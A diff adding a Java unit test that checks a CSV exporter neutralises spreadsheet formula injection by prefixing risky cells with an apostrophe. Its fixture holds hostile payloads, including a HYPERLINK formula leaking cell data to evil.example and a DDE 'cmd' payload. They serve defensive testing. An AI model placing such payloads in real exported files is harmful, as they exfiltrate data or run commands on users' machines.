@@ -45,6 +45,26 @@ class CsvExportTest {
     }
 
     @Test
+    void cellsASpreadsheetWouldRunAsAFormulaAreWrittenAsText() throws IOException {
+        Path file = folder.resolve("notes.csv");
+        List<String> hostile = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
+                "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=");
+        TableSnapshot notes = new TableSnapshot(List.of("a", "b", "c", "d", "e", "f", "g"), List.of(
+                hostile,
+                List.of("Fine text", "-3", "+2.5", "", "a=b", "e-mail", "x@y")));
+
+        CsvExport.write(notes, file);
+
+        try (Reader in = Files.newBufferedReader(file, StandardCharsets.UTF_8)) {
+            in.skip(1);
+            List<CSVRecord> records = CSVParser.parse(in, CSVFormat.RFC4180).getRecords();
+            assertThat(records.get(1).toList()).isEqualTo(hostile.stream().map(c -> "'" + c).toList());
+            assertThat(records.get(2).toList()).as("numbers and text that starts harmlessly are kept as they are")
+                    .containsExactly("Fine text", "-3", "+2.5", "", "a=b", "e-mail", "x@y");
+        }
+    }
+
+    @Test
     void replacesAnExistingFileAndLeavesNoTemporaryFileBehind() throws IOException {
         Path file = folder.resolve("audit.csv");
         Files.writeString(file, "old content that is longer than the new one ".repeat(50));
